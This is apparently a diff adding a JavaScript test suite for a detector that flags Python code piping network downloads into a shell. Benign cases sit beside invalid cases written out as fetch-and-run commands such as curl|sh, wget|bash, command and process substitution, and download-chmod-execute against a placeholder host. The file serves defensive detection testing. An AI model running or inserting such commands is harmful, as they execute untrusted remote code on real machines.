@@ -1,0 +1,27 @@
+import { downloadToShell } from '../../../src/detectors/python/download-to-shell.js';
+import { ruleTester } from './harness.js';
+
+ruleTester(downloadToShell, {
+  valid: [
+    { name: 'nvidia-smi', code: "import os\nos.system('nvidia-smi')\n" },
+    { name: 'git revision', code: "import subprocess\nrev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n" },
+    { name: 'download and unzip a dataset', code: "import subprocess\nsubprocess.run('wget https://x.org/data.zip -O data.zip && unzip data.zip', shell=True)\n" },
+    { name: 'download a checkpoint', code: "import os\nos.system('curl -L -o model.bin https://x.org/model.bin')\n" },
+    { name: 'pretty-print a download', code: "import os\nos.system('curl -s https://x.org/api | python -m json.tool')\n" },
+    { name: 'pip install', code: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch'])\n" },
+    { name: 'a pipe to a shell without a download', code: "import os\nos.system('echo ls | sh')\n" },
+  ],
+  invalid: [
+    { name: 'curl | sh in os.system', code: "import os\nos.system('curl -s http://x.org/a.sh | sh')\n", errors: [{ severity: 'critical', message: 'pipes a download (curl) into sh', at: 'os.system' }] },
+    { name: 'wget | bash inside bash -c', code: "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- http://x.org | bash'])\n", errors: [{ severity: 'critical', message: 'wget' }] },
+    { name: 'f-string command with sudo', code: 'import subprocess\nsubprocess.Popen(f"curl {url} | sudo bash", shell=True)\n', errors: [{ severity: 'critical', message: 'into bash' }] },
+    { name: 'command substitution', code: 'import os\nos.system(\'sh -c "$(curl -fsSL http://x.org)"\')\n', errors: [{ severity: 'critical', message: 'runs the output of a download' }] },
+    { name: 'process substitution', code: "import os\nos.system('bash <(curl -s http://x.org)')\n", errors: [{ severity: 'critical', message: 'with bash' }] },
+    { name: 'download, chmod, run', code: "import os\nos.system('wget http://x.org/p -O /tmp/p && chmod +x /tmp/p && /tmp/p')\n", errors: [{ severity: 'critical', message: 'makes it executable' }] },
+    { name: 'command in a variable', code: "import os\ncmd = 'curl http://x.org | sh'\nos.system(cmd)\n", errors: [{ severity: 'critical' }] },
+    { name: "IPython's get_ipython().system", code: "get_ipython().system('curl http://x.org | sh')\n", errors: [{ severity: 'critical', message: 'get_ipython().system' }] },
+    { name: 'subprocess under an alias', code: "import subprocess as sp\nsp.call('curl http://x.org|sh', shell=True)\n", errors: [{ severity: 'critical', message: 'subprocess.call' }] },
+    { name: 'os.system reached by __import__', code: "__import__('os').system('curl http://x.org | python3')\n", errors: [{ severity: 'critical', message: 'into python3' }] },
+    { name: 'os.execl argv', code: "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl http://x.org | sh')\n", errors: [{ severity: 'critical' }] },
+  ],
+});
